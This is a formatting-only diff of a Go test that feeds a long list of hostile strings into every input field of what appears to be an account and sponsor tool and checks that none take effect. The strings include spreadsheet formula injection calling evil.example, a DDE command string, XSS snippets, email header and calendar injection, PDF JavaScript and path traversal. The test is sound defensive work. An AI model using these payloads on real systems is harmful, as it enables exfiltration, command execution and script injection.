@@ -23,14 +23,21 @@ var placements = flag.Int("placements", 700, "hostile texts to place and look fo
 // payloads are texts that do something where a program reads them as more than
 // text. MARK is replaced by a mark of the run, by which what came of them is found.
 var payloads = []string{
-	`=HYPERLINK("http://evil.example/MARK","MARK")`, `=cmd|' /C calc'!A0 MARK`, "+1+MARK", "-1+MARK", "@SUM(MARK)", "\t=1+MARK", "\r=MARK", "＝1+MARK", "'=MARK", `=IMPORTXML("http://evil.example/MARK")`,
-	`<script>alert("MARK")</script>`, `<img src=x onerror=alert('MARK')>`, `"><svg onload=MARK>`, `</title><script>MARK</script>`, "javascript:alert('MARK')",
-	`<a href="http://evil.example/MARK">MARK</a>`, `' onmouseover='MARK`, `" onfocus="MARK" autofocus="`, "<!--MARK", "]]><MARK/>", "&lt;script&gt;MARK", "{{MARK}}", "${MARK}", "`MARK`", "$(MARK)", "%s%n MARK",
-	"[MARK](http://evil.example/MARK)", "![MARK](http://evil.example/MARK.png)", "<http://evil.example/MARK>", "http://evil.example/MARK", "www.evil.example/MARK", "MARK@evil.example", "| MARK |", "# MARK", "- MARK", "1. MARK",
+	`=HYPERLINK("http://evil.example/MARK","MARK")`, `=cmd|' /C calc'!A0 MARK`, "+1+MARK", "-1+MARK", "@SUM(MARK)", "\t=1+MARK", "\r=MARK",
+	"＝1+MARK", "'=MARK", `=IMPORTXML("http://evil.example/MARK")`,
+	`<script>alert("MARK")</script>`, `<img src=x onerror=alert('MARK')>`, `"><svg onload=MARK>`, `</title><script>MARK</script>`,
+	"javascript:alert('MARK')",
+	`<a href="http://evil.example/MARK">MARK</a>`, `' onmouseover='MARK`, `" onfocus="MARK" autofocus="`, "<!--MARK", "]]><MARK/>",
+	"&lt;script&gt;MARK", "{{MARK}}", "${MARK}", "`MARK`", "$(MARK)", "%s%n MARK",
+	"[MARK](http://evil.example/MARK)", "![MARK](http://evil.example/MARK.png)", "<http://evil.example/MARK>", "http://evil.example/MARK",
+	"www.evil.example/MARK", "MARK@evil.example", "| MARK |", "# MARK", "- MARK", "1. MARK",
 	"``` MARK", "[^1]: MARK", "[MARK]: http://evil.example/MARK", "***MARK***", "~~MARK~~", "MARK\n\n# MARK", "MARK\n- MARK\n</td></tr>",
-	"MARK is written in red \x1bc and no more", "\x1b[2JMARK", "\u009b31mMARK", "\u202eMARK\u202c", "\u2066MARK\u2069", "M\u200bARK MARK\ufeff", "\x00MARK", "MARK\u2028MARK", "\U000E0041MARK", "MARK\u00ad\u2060",
-	"MARK\r\nBcc: evil@evil.example", "MARK\r\nEND:VEVENT\r\nBEGIN:VALARM", "MARK\nATTACH:http://evil.example/MARK", `MARK;CN=x:mailto:evil@evil.example`, "=?utf-8?q?MARK?=", "MARK, evil@evil.example", "MARK\" <evil@evil.example>",
-	"../../MARK", `C:\MARK`, "(MARK) Tj /URI (http://evil.example/MARK)", ") /S /JavaScript /JS (MARK", "%PDF-1.7 MARK", "&R&D&PMARK", "_x000D_MARK", "MARK\\, MARK\\n", "CON MARK.exe",
+	"MARK is written in red \x1bc and no more", "\x1b[2JMARK", "\u009b31mMARK", "\u202eMARK\u202c", "\u2066MARK\u2069",
+	"M\u200bARK MARK\ufeff", "\x00MARK", "MARK\u2028MARK", "\U000E0041MARK", "MARK\u00ad\u2060",
+	"MARK\r\nBcc: evil@evil.example", "MARK\r\nEND:VEVENT\r\nBEGIN:VALARM", "MARK\nATTACH:http://evil.example/MARK",
+	`MARK;CN=x:mailto:evil@evil.example`, "=?utf-8?q?MARK?=", "MARK, evil@evil.example", "MARK\" <evil@evil.example>",
+	"../../MARK", `C:\MARK`, "(MARK) Tj /URI (http://evil.example/MARK)", ") /S /JavaScript /JS (MARK", "%PDF-1.7 MARK", "&R&D&PMARK",
+	"_x000D_MARK", "MARK\\, MARK\\n", "CON MARK.exe",
 }
 
 // TestNothingOfTheInputComesToLife puts hostile texts into every field of every
@@ -42,7 +49,8 @@ func TestNothingOfTheInputComesToLife(t *testing.T) {
 	placed := 0
 	for n := 0; placed < *placements; n++ {
 		t.Run(fmt.Sprint(n), func(t *testing.T) {
-			p := &placing{T: t, n: n, dir: t.TempDir(), payload: strings.ReplaceAll(payloads[n%len(payloads)], "MARK", fmt.Sprintf("zq%dx", n))}
+			p := &placing{T: t, n: n, dir: t.TempDir(), payload: strings.ReplaceAll(payloads[n%len(payloads)], "MARK",
+				fmt.Sprintf("zq%dx", n))}
 			p.books()
 			p.read()
 			placed += p.placed
@@ -142,8 +150,12 @@ func (p *placing) exports() {
 		}
 		return r
 	}, p.payload), ""))
-	p.write("in/sponsorbook.yaml", []byte("tables:\n"+strings.Join(tables, "")+"delivery: {from: Program <program@ours.example>, leadership: [lead@ours.example]}\ntiers: {tier_1: 100, tier_2: 100, tier_1_out: 100, tier_2_out: 100}\n"+
-		fmt.Sprintf("program: {company: %[1]s, name: %[1]s, confidential: %[1]s, purpose: %[1]s, manager: %[1]s, owners: [%[1]s], goals: [%[1]s], escalation: %[1]s, decision: %[1]s}\n", text)))
+	p.write("in/sponsorbook.yaml",
+		[]byte("tables:\n"+strings.Join(tables, "")+
+			"delivery: {from: Program <program@ours.example>, leadership: [lead@ours.example]}\ntiers: {tier_1: 100, tier_2: 100, "+
+			"tier_1_out: 100, tier_2_out: 100}\n"+
+			fmt.Sprintf("program: {company: %[1]s, name: %[1]s, confidential: %[1]s, purpose: %[1]s, manager: %[1]s, owners: [%[1]s], "+
+				"goals: [%[1]s], escalation: %[1]s, decision: %[1]s}\n", text)))
 	p.placed += 9
 }
 
@@ -167,7 +179,8 @@ func sound(kind string, f headings.Field) string {
 	switch f.Name {
 	case "account id":
 		return "A1"
-	case "account", "executive sponsor", "parent", "parent id", "merged into", "won", "is closed", "sponsor group", "leaves on", "left on", "active":
+	case "account", "executive sponsor", "parent", "parent id", "merged into", "won", "is closed", "sponsor group", "leaves on", "left on",
+		"active":
 		return " "
 	case "email":
 		return "eve@ours.example"
@@ -184,7 +197,8 @@ func sound(kind string, f headings.Field) string {
 	case "id":
 		return strings.ReplaceAll(kind+" 1", " ", "-")
 	case "date":
-		return map[string]string{"meetings": "2026-11-20", "occasions": "2026-11-25"}[kind] + map[bool]string{true: "2026-09-15"}[kind != "meetings" && kind != "occasions"]
+		return map[string]string{"meetings": "2026-11-20",
+			"occasions": "2026-11-25"}[kind] + map[bool]string{true: "2026-09-15"}[kind != "meetings" && kind != "occasions"]
 	case "amount", "number", "hours":
 		return "3"
 	case "percent":
@@ -199,7 +213,8 @@ func sound(kind string, f headings.Field) string {
 		return "supports"
 	case "role":
 		return "decides"
-	case "flag", "period", "ranges", "account", "level", "severity", "status", "stage", "mandate", "mode", "scope", "health", "origin", "document", "chosen", "country",
+	case "flag", "period", "ranges", "account", "level", "severity", "status", "stage", "mandate", "mode", "scope", "health", "origin",
+		"document", "chosen", "country",
 		"action status", "contact state", "meeting form", "meeting type", "note type", "language":
 		return " "
 	}
@@ -218,7 +233,8 @@ func (p *placing) row(k headings.Kind, wrong int) []string {
 		if text == "" || i == wrong {
 			// Of another field it is another text: what is checked against names of people
 			// and of accounts is none of them.
-			out = append(out, strings.ReplaceAll(fmt.Sprintf("%s %.3s%d", p.payload, k.Name, i), "\x00", "")) // a text file with NUL is none
+			// a text file with NUL is none
+			out = append(out, strings.ReplaceAll(fmt.Sprintf("%s %.3s%d", p.payload, k.Name, i), "\x00", ""))
 			p.placed++
 			continue
 		}
@@ -334,7 +350,8 @@ func (p *placing) snapshot() {
 	}
 }
 
-var inWords = []string{"name", "why", "what", "comment", "owner", "sponsor", "deputy", "successor", "executive", "proposed_why", "reason", "cause", "of", "role",
+var inWords = []string{"name", "why", "what", "comment", "owner", "sponsor", "deputy", "successor", "executive", "proposed_why", "reason",
+	"cause", "of", "role",
 	"window", "about", "definition", "version", "rule", "proposed"}
 
 func (p *placing) remembered(v any) {
